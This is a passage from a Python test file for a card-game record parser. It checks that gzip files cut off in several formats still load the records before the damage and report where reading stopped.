        "openspiel episodes": ("cut.jsonl", _line_split((fixtures / "openspiel" / "edge_cases.jsonl").read_text(), 2)),
        "openspiel histories": ("cut.txt", _line_split((fixtures / "openspiel" / "histories.txt").read_text(), 2)),
        "ptn": ("cut.ptn", _block_split((fixtures / "trickster" / "two_games.ptn").read_text(encoding="utf-8"), "[Event", 2)),
        "csv waiting for its rules": ("cut.csv", _line_split(_sheet_waiting_for_its_rules(), 4)),
        "spn": ("cut.spn", _block_split(spn.dumps(load(CLEAN)), "[Hand ", 4)),
    }
    return cases


@pytest.mark.parametrize("case", ["jsonl", "openspiel episodes", "openspiel histories", "ptn", "csv waiting for its rules", "spn"])
def test_a_cut_off_gzip_keeps_every_record_read_whole_before_the_damage_in_every_format(tmp_path, case):
    """A .gz cut off (here just after a record ends) gives the records and errors the same text gives
    uncut, and one error naming where reading stopped.  Before: a small cut-off file was not
    recognised by its content (every OpenSpiel hand rejected as JSON Lines, or the file as no known
    format), a PTN file lost the hand read last, a score sheet the rows waiting for their game's rules."""
    import zlib

    from spadework.parsers.formats import load

    name, (head, tail) = _cut_off_cases()[case]
    assert head and tail
    plain = tmp_path / "plain" / name
    plain.parent.mkdir()
    plain.write_text(head, encoding="utf-8")
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = z.compress(head.encode()) + z.flush(zlib.Z_FULL_FLUSH)
    data += (z.compress(tail.encode()) + z.flush())[:2]  # the rest of the file is lost
    cut = tmp_path / (name + ".gz")
    cut.write_bytes(data)

    def read(path):
        items = list(load(path, source="f"))
        hands = [(r.game_id, r.hand, r.rules) for r in items if not hasattr(r, "message")]
        errors = [(e.source_line, e.message) for e in items if hasattr(e, "message")]
        return hands, errors

    want_hands, want_errors = read(plain)
    assert want_hands, "the text before the cut holds hands"
    hands, errors = read(cut)
    assert hands == want_hands
    assert errors[:-1] == want_errors
    last = head.count("\n")
    assert errors[-1][0] == last + 1
    assert f"cut off or damaged after line {last:,}" in errors[-1][1]


def test_a_cut_off_spn_gzip_names_the_hand_block_it_was_reading(tmp_path):
    """The block read when the file broke off is not read (its end is lost): an error at its first
    line says so and keeps its text, before the error naming where the file stops (it used to say
    only that the records before the damage are read)."""
    import zlib

    from spadework.parsers import spn
    from spadework.parsers.formats import load

    text = spn.dumps(load(CLEAN))
    lines = text.splitlines(keepends=True)
    starts = [i for i, x in enumerate(lines) if x.startswith("[Hand ")]
    cut_at = starts[3] + 3  # three lines into the fourth hand's block
    head, tail = "".join(lines[:cut_at]), "".join(lines[cut_at:])
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = z.compress(head.encode()) + z.flush(zlib.Z_FULL_FLUSH) + (z.compress(tail.encode()) + z.flush())[:2]
    cut = tmp_path / "cut.spn.gz"
    cut.write_bytes(data)
    items = list(load(cut, source="f"))
    hands = [r for r in items if not hasattr(r, "message")]
    errors = [e for e in items if hasattr(e, "message")]
    assert len(hands) == 3 and len(errors) == 2
    block_error, stop = errors
    assert block_error.source_line == starts[3] + 1
    assert block_error.message == (f"line {starts[3] + 1}: this block was cut off with the file (reading stopped after "
                                   f"line {cut_at:,}), so it is not read")
    assert block_error.raw.startswith("[Hand ") and block_error.raw.count("\n") == 2
    assert stop.source_line == cut_at + 1 and f"cut off or damaged after line {cut_at:,}" in stop.message


@pytest.mark.parametrize("engine", ["replay", "fast"])
@pytest.mark.parametrize("shape", ["array", "lines", "one object"])
def test_a_cut_off_gzipped_json_document_keeps_the_items_closed_before_the_damage(tmp_path, shape, engine):
    """A .json array cut off lost every hand: the document was one error.  Now the items closed before
    the damage load, at their lines, and one error names where reading stopped."""
    import zlib

    objs = [json.loads(line) for line in CLEAN.read_text(encoding="utf-8").splitlines()]
    if shape == "array":
        items = [json.dumps(o, indent=1) for o in objs]
        head, tail = "[\n" + ",\n".join(items[:4]) + ",\n", ",\n".join(items[4:]) + "\n]\n"
    elif shape == "lines":
        head, tail = "".join(json.dumps(o) + "\n" for o in objs[:4]), "".join(json.dumps(o) + "\n" for o in objs[4:])
    else:
        text = json.dumps(objs[0], indent=1)
        head, tail = text[: len(text) // 2], text[len(text) // 2 :]
    whole = tmp_path / "whole.json"
    whole.write_text(head + tail, encoding="utf-8")
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = z.compress(head.encode()) + z.flush(zlib.Z_FULL_FLUSH) + (z.compress(tail.encode()) + z.flush())[:2]
    cut = tmp_path / "cut.json.gz"
    cut.write_bytes(data)
    doc = json.loads(run("validate", whole, "--json", "--engine", engine).output)
    assert doc["files"][0]["hands"] == (8 if shape != "one object" else 1)
    r = run("validate", cut, "--json", "--engine", engine, "--db", tmp_path / "cut.duckdb")
    assert r.exit_code == 2
    doc = json.loads(r.output)
    (err,) = doc["load_errors"]
    want = 0 if shape == "one object" else 4
    assert doc["files"][0]["hands"] == want
    last = head.rstrip(",\n").count("\n") if shape == "array" else (head.count("\n") if want else 0)
    assert err["source_line"] == last + 1
    assert "cut off or damaged" in err["message"]
    with duckdb.connect(str(tmp_path / "cut.duckdb"), read_only=True) as con:
        got = con.execute("SELECT hand, source_line FROM hands ORDER BY hand").fetchall()
    if want:
        lines = [2 + sum(items[k].count("\n") + 1 for k in range(i)) for i in range(4)] if shape == "array" else [1, 2, 3, 4]
        assert got == list(zip(range(1, 5), lines))
